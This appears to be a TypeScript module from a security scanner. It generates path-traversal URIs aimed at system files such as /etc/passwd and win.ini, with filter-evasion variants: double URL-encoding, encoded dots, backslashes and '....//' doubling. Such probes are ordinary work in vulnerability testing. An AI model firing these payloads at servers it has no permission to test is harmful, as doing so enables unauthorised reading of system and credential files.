import { expressionsOf, fillRaw } from './template.js'

/** Of listed resources and of templates so many are climbed out of. */
const mostBases = 5

/** Of a server on this machine it is known which of them there is. */
export const systemFiles = (remote: boolean): readonly string[] => {
  if (remote) return ['/etc/passwd', 'C:/Windows/win.ini']
  return [process.platform === 'win32' ? 'C:/Windows/win.ini' : '/etc/passwd']
}

const up = '../'.repeat(12)

/** URIs that lead out of what a server lists, to each of `files` and of `system`. */
export function climbingUris(
  listed: readonly string[],
  templates: readonly string[],
  files: readonly string[],
  system: readonly string[],
): string[] {
  const targets = [...system, ...files].map((file) => file.replaceAll('\\', '/'))
  const paths = targets.flatMap(pathsTo)
  const bases = [...new Set(listed.map(baseOf))].filter((base) => base !== undefined).slice(0, mostBases)
  const valid = templates.filter((template) => (expressionsOf(template)?.length ?? 0) > 0).slice(0, mostBases)
  return [
    ...new Set([
      ...targets.map((target) => `file://${target.startsWith('/') ? '' : '/'}${target}`),
      ...bases.flatMap((base) => paths.map((path) => base + path)),
      ...valid.flatMap((template) => paths.map((path) => fillRaw(template, path))),
    ]),
  ]
}

/** Ways to write a path that climbs: as it is, encoded once and twice, with backslashes, absolute, doubled so that one removal leaves it. */
function pathsTo(target: string): string[] {
  const relative = up + target.replace(/^\//, '')
  return [
    relative,
    encodeURIComponent(relative),
    relative.replaceAll('.', '%2e'),
    encodeURIComponent(encodeURIComponent(relative)),
    encodeURIComponent(relative.replaceAll('/', '\\')),
    relative.replaceAll('../', '....//'),
    target,
    encodeURIComponent(target),
  ]
}

/** A listed URI up to its last slash, which is where its folder ends. */
function baseOf(uri: string): string | undefined {
  const end = uri.lastIndexOf('/')
  return end === -1 ? undefined : uri.slice(0, end + 1)
}
